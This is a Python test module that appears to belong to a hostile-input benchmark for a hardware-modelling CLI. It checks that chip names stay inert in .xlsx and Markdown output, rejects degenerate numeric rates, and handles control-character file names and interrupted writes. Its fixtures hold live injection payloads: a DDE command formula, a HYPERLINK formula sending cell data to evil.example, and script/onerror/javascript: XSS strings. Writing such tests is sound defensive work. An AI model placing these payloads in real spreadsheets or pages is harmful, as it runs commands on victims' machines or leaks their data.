"""Group 7 of the hostile catalogue (bench_hostile.py), the issue's second list: formula injection
into .xlsx (a chip's name or display name copied into the live template), Markdown that a name
breaks out of, degenerate rates (tiny, subnormal, huge: the rate flags and every kind of chip-file
number), output names with control characters, and the temporary file a SIGKILL leaves. Fixtures
(chip files under WORK/in) are written by `make_second_fixtures`; cases by `second_catalogue`."""

from __future__ import annotations

import re
import signal
from collections.abc import Callable
from pathlib import Path

from bench_hostile import ROOT, Case

HW = ["--hw", "h100-sxm"]
CATALOG_CHIP = ROOT / "src" / "shardline" / "hardware" / "catalog" / "h100-sxm.toml"
DDE = "=cmd|' /C calc'!A0"
LINK = '=HYPERLINK("http://evil.example/?"&A1,"click")'
# chip file name -> (table, key, value as TOML): one number out of its kind's range each
BAD_CHIP_NUMBERS = {
    "capacity_1e-300": ("memory", "capacity_bytes", "1e-300"),
    "capacity_5e-324": ("memory", "capacity_bytes", "5e-324"),
    "capacity_1e300": ("memory", "capacity_bytes", "1e300"),
    "capacity_1_reported_85.5e9": ("memory", "capacity_bytes", "1"),  # the two disagree
    "reported_1e-300": ("memory", "reported_bytes", "1e-300"),
    "mem_bw_1e-300": ("memory", "bytes_per_s", "1e-300"),
    "mem_bw_1e31": ("memory", "bytes_per_s", "1e31"),
    "peak_5e-324": ("peak_flops_per_s", "bf16", "5e-324"),
    "peak_1e300": ("peak_flops_per_s", "bf16", "1e300"),
    "link_bw_1e-300": ("interconnect", "link_bytes_per_s", "1e-300"),
    "scale_out_bw_1e-300": ("interconnect.scale_out", "bytes_per_s_per_device", "1e-300"),
    "hop_latency_1e300": ("interconnect", "hop_latency_s", "1e300"),
    "launch_1e7": ("achievable", "launch_overhead_s", "1e7"),
    "bus_eff_1e-300": ("achievable", "collective_bus_efficiency", "1e-300"),
    "clock_1e-300": ("on_chip", "clock_hz", "1e-300"),
    "l2_1e-300": ("on_chip", "l2_bytes", "1e-300"),
    "cores_1e300": ("on_chip", "cores", "1e300"),
    "links_2e18": ("interconnect", "links_per_chip", "2000000000000000000"),
}
# well-formed edge values: an answer
GOOD_CHIP_NUMBERS = {
    "hop_latency_1e-300": ("interconnect", "hop_latency_s", "1e-300"),
    "link_bw_1": ("interconnect", "link_bytes_per_s", "1"),
    "mem_bw_1e30": ("memory", "bytes_per_s", "1e30"),
}


def _chip_text(table: str | None = None, key: str = "", value: str = "") -> str:
    """The shipped H100 file with one number replaced (and no aliases, which would clash)."""
    lines, current = [], ""
    for line in CATALOG_CHIP.read_text(encoding="utf-8").splitlines():
        head = re.match(r"^\[([\w.]+)\]", line)
        if head:
            current = head.group(1)
        if line.startswith("aliases"):
            continue
        if current == table and re.match(rf"^{re.escape(key)}\s*=", line):
            line = re.sub(r"value = [^,}]+", f"value = {value}", line)
            if "value =" not in line:
                line = f"{key} = {value}"
        lines.append(line)
    return "\n".join(lines) + "\n"


def _named(text: str, name: str, display: str, source: str | None = None) -> str:
    text = re.sub(r'(?m)^name = ".*"$', lambda _: f"name = {_toml_str(name)}", text)
    text = re.sub(
        r'(?m)^display_name = ".*"$', lambda _: f"display_name = {_toml_str(display)}", text
    )
    if source is not None:
        text = re.sub(
            r'(?m)^(bytes_per_s = \{ value = [^,]+, source = )"[^"]*"',
            lambda m: m.group(1) + _toml_str(source),
            text,
            count=1,
        )
    return text


def _toml_str(text: str) -> str:
    return '"' + text.replace("\\", "\\\\").replace('"', '\\"') + '"'


def make_second_fixtures(work: Path) -> None:
    d = work / "in"
    d.mkdir(parents=True, exist_ok=True)
    for name, (table, key, value) in {**BAD_CHIP_NUMBERS, **GOOD_CHIP_NUMBERS}.items():
        (d / f"chip_{name}.toml").write_text(_chip_text(table, key, value), encoding="utf-8")
    base = _chip_text()
    (d / "chip_dde.toml").write_text(_named(base, "dde", DDE, DDE), encoding="utf-8")
    (d / "chip_hyperlink.toml").write_text(_named(base, LINK, LINK), encoding="utf-8")
    (d / "chip_markdown.toml").write_text(
        _named(
            base,
            "x`<img src=x onerror=alert(1)>`",
            "<script>alert(1)</script>[a](javascript:alert(1))",
            "<script>alert(2)</script>[s](javascript:alert(2))",
        ),
        encoding="utf-8",
    )
    (d / "shapes.csv").write_text("name,m,k,n\n=1+1,4096,4096,4096\n", encoding="utf-8")


def _xlsx_has_no_formula(name: str, needles: tuple[str, ...]) -> Callable[[Path], str]:
    """The workbook's cells holding user text are text: no formula cell contains a needle."""

    def check(work: Path) -> str:
        from openpyxl import load_workbook

        path = work / name
        if not path.exists():
            return f"{name} not written"
        found = False
        for ws in load_workbook(path).worksheets:
            for row in ws.iter_rows():
                for cell in row:
                    text = str(cell.value or "")
                    if any(n.lower() in text.lower() for n in needles):
                        if cell.data_type == "f":
                            return f"{cell.coordinate} is a formula: {text[:40]!r}"
                        found = True
        return "" if found else f"no cell of {name} holds the name (written elsewhere?)"

    return check


def _md_has_no_html(name: str) -> Callable[[Path], str]:
    def check(work: Path) -> str:
        path = work / name
        if not path.exists():
            return f"{name} not written"
        text = path.read_text(encoding="utf-8").lower()
        for bad in ("<script", "<img", "](javascript:"):
            if bad in text:
                return f"{bad!r} in {name}"
        return ""

    return check


def _injection() -> list[Case]:
    out = []
    for chip, needles in (("dde", ("cmd|",)), ("hyperlink", ("hyperlink",))):
        out.append(
            Case(f"template --hw chip_{chip}.toml: names stay text",
                 ["template", f"out_{chip}.xlsx", "--hw", f"in/chip_{chip}.toml"], "ok", group=7,
                 check=_xlsx_has_no_formula(f"out_{chip}.xlsx", needles))
        )  # fmt: skip
    out.append(
        Case("template --from sheet, chip_dde.toml", ["template", "out_from.xlsx", "--from",
             "in/shapes.csv", "--hw", "in/chip_dde.toml"], "ok", group=7,
             check=_xlsx_has_no_formula("out_from.xlsx", ("cmd|", "=1+1")))
    )  # fmt: skip
    for what in (
        ["matmul", "4096", "4096", "4096"],
        ["shard", "4096", "4096", "4096", "--devices", "8", "--along", "k"],
        ["einsum", "X[B,D] * W[D,F] -> Y[B,F]", "--dims", "B=64,D=4096,F=4096"],
        ["plan", "--model", "llama-3.2-1b", "--devices", "8"],
    ):
        out.append(
            Case(f"explain {what[0]} --hw chip_markdown.toml",
                 ["explain", *what, "--hw", "in/chip_markdown.toml", "--out", "out.md"], "ok",
                 group=7, check=_md_has_no_html("out.md"))
        )  # fmt: skip
    return out


RATE_FLAGS = ("--link-bw", "--mem-bw", "--flops-per-s", "--nic-bw")
BAD_RATES = ("1e-300", "5e-324", "0.5", "1e31", "1e300", "0")
COMMANDS = {
    "shard": ["shard", "8192", "8192", "8192", "--devices", "8", "--along", "k", *HW],
    "plan": ["plan", "--model", "llama-3.2-1b", "--devices", "8", *HW],
    "collective": ["collective", "all-reduce", "--bytes", "1e9", "--devices", "16", *HW],
    "compare": ["compare", "8192", "8192", "8192", "--devices", "8", *HW],
}
FLAGS_OF = {
    "shard": ("--link-bw", "--latency", "--mem-bw", "--flops-per-s"),
    "plan": ("--link-bw", "--latency", "--mem-bw", "--flops-per-s", "--nic-bw"),
    "collective": ("--link-bw", "--latency", "--nic-bw"),
    "compare": ("--link-bw", "--latency", "--mem-bw"),
}


def _rates() -> list[Case]:
    out = []
    for cmd, argv in COMMANDS.items():
        for flag in FLAGS_OF[cmd]:
            bad = ("-1", "1e7", "1e300", "nan") if flag == "--latency" else BAD_RATES
            good = ("1e-300", "1e6") if flag == "--latency" else ("1", "1e30")
            out += [Case(f"{cmd} {flag} {v}", [*argv, flag, v], "error", "numeric", 7) for v in bad]
            out += [
                Case(f"{cmd} {flag} {v} ok", [*argv, flag, v], "ok", "numeric", 7) for v in good
            ]
    for name in BAD_CHIP_NUMBERS:
        for cmd in ("matmul", "plan"):
            argv = ["matmul", "4096", "4096", "4096"] if cmd == "matmul" else COMMANDS["plan"][:-2]
            out.append(Case(f"{cmd} --hw chip_{name}.toml", [*argv, "--hw", f"in/chip_{name}.toml"],
                            "error", "numeric", 7))  # fmt: skip
    for name in GOOD_CHIP_NUMBERS:
        out.append(Case(f"plan --hw chip_{name}.toml ok",
                        [*COMMANDS["plan"][:-2], "--hw", f"in/chip_{name}.toml"], "ok", "numeric",
                        7))  # fmt: skip
    return out


def _leftovers() -> list[Case]:
    sheet = ["sheet", "in/medium.csv", *HW]
    out = [
        Case(f"sheet -o {name!r}", [*sheet, "-o", name], "error", group=7)
        for name in ("\nout.csv", "out\n.csv", "o\tut.csv", "o\x1b[31mut.csv", "o\u202eut.csv",
                     "out\r.md", "o\x7fut.json")
    ]  # fmt: skip
    out.append(
        Case("template -o with a line feed", ["template", "\nout.xlsx", *HW], "error", group=7)
    )
    for suffix in ("csv", "xlsx"):
        out.append(
            Case(f"SIGKILL while writing .{suffix}, then the same write again",
                 [*sheet, "-o", f"out_kill.{suffix}"], "ok", group=7, signal_after_s=0.05,
                 after_tmp=True, sig=signal.SIGKILL, limit_s=120,
                 then=[*sheet, "-o", f"out_kill.{suffix}", "--force"])
        )  # fmt: skip
    return out


def second_catalogue() -> list[Case]:
    return [*_injection(), *_rates(), *_leftovers()]
